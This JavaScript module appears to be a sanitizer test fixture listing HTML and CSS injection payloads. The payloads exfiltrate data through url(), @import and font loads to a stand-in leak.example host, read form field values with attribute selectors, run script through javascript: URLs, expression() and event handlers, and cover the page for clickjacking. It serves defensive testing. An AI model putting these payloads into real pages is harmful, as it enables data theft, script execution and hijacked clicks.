/** Styles that ask someone, that cover the page, or that run something. */
import { LEAK, RUN } from './parts.js';

/** @param {string} style */
const styled = (style) => `<p style="${style}">a</p>`;

/** @type {Readonly<Record<string, string>>} */
export const STYLES = {
  background: styled(`background:url(${LEAK}.png)`),
  'background in quotes and in odd case': styled(`BaCkGrOuNd-ImAgE:UrL( &quot;${LEAK}.png&quot; )`),
  'background with escapes': styled(`\\62 ackground:\\75 rl(${LEAK}.png)`),
  'background with comments': styled(
    `back/**/ground:url(${LEAK}.png);background:u/**/rl(${LEAK}.png);background:/**/url(${LEAK}.png)`,
  ),
  'images of lists, borders, masks and content': styled(
    `list-style:url(${LEAK}-1.png);border-image:url(${LEAK}-2.png) 1;mask:url(${LEAK}-3.svg#a);content:url(${LEAK}-4.png)`,
  ),
  'set of images': styled(
    `background:image-set('${LEAK}.png' 1x);background:-webkit-image-set(url(${LEAK}.png) 1x);background:cross-fade(url(${LEAK}.png),red)`,
  ),
  cursor: styled(`cursor:url(${LEAK}.cur),auto`),
  'filter and clip': styled(
    `filter:url(${LEAK}.svg#f);clip-path:url(${LEAK}.svg#c);shape-outside:url(${LEAK}.png);offset-path:url(${LEAK}.svg#p)`,
  ),
  variable: styled(`--a:url(${LEAK}.png);background:var(--a)`),
  'variables of the panel': styled('--integreat-accent:red;--accent:red;--space:99em;--integreat-font:evil'),
  'covering the page':
    '<div style="position:fixed;inset:0;z-index:2147483647;background:#fff"><a href="/a" style="position:absolute;inset:0">Click here</a></div>',
  'standing beside the panel': styled(
    'position:absolute;top:-999px;margin:-99em;transform:translate(99em) scale(99);width:99999px',
  ),
  invisible:
    '<a href="https://leak.example/" style="opacity:0;font-size:0;color:transparent;position:fixed;inset:0">a</a>',
  'in the top layer':
    '<div style="overlay:auto;position:fixed;top:0;anchor-name:--a;view-transition-name:a;display:block!important">a</div>',
  'script in a style': `${styled('background:url(javascript:hacked())')}${styled('width:expression(hacked())')}${styled('behavior:url(#default#time2) url(https://leak.example/media/leak.htc)')}`,
  'binding and other old ones': `${styled(`-moz-binding:url(${LEAK}.xml#a)`)}${styled('xss:expr/**/ession(hacked())')}${styled('-o-link:javascript:hacked();-o-link-source:current')}`,
  'style that closes itself': `<p style="a:b}*{background:url(${LEAK}.png)}x{"></p><p style='"></p>${RUN}<p "'>a</p>`,
  'style element': `<style>*{background:url(${LEAK}.png)}</style><p>a`,
  'style element that takes the host over': `<style>:host{position:fixed;inset:0}:host-context(body){display:none}::slotted(*){display:none}.root{display:none!important}</style><p>a`,
  'style element that imports': `<style>@import "${LEAK}.css";@import url(${LEAK}-2.css) layer(a);</style>`,
  'style element that fetches fonts': `<style>@font-face{font-family:a;src:url(${LEAK}.woff2)}p{font-family:a}</style><p>a</p>`,
  'style element that reads fields': `<style>input[value^=a]{background:url(${LEAK}-a.png)}a[href*=b]{background:url(${LEAK}-b.png)}</style><input value=a>`,
  'style element in a paragraph, a list, a table': `<p><style>p{background:url(${LEAK}.png)}</style><ul><style>li{list-style:url(${LEAK}.png)}</style><li>a</ul>`,
  'style element that is switched on later': `<style media=print>@import "${LEAK}.css";</style><style media=" all" nonce=a blocking=render>*{background:url(${LEAK}.png)}</style>`,
  'style of a graphic': `<svg><style>@import "${LEAK}.css";*{fill:url(${LEAK}.svg#a)}</style><rect width=9 height=9 /></svg>`,
  'linked style sheets': `<link rel=stylesheet href="${LEAK}.css"><link rel="STYLESHEET" href="${LEAK}-2.css" media=all><link rel="alternate stylesheet" title=a href="${LEAK}-3.css">`,
  'linked style sheet in a paragraph': `<p>a<link rel=stylesheet href="${LEAK}.css" onload=hacked()>b</p>`,
  'old attributes that look':
    '<font color=red size=7 face="a">a</font><center>b</center><p align=right bgcolor=red>c</p><hr noshade size=999 color=red><basefont size=7>',
  'classes of the panel and of the page':
    '<p class="root rich-text tile button icon frame-link table-box contact-card-x modal show">a</p><div class=root><div class=view>b</div></div>',
  'style that hides what follows':
    '<div hidden style="display:none">a</div><p style="display:none;background:url(https://leak.example/media/leak.png)">b</p><p style="visibility:hidden" onclick=hacked()>c</p>',
};
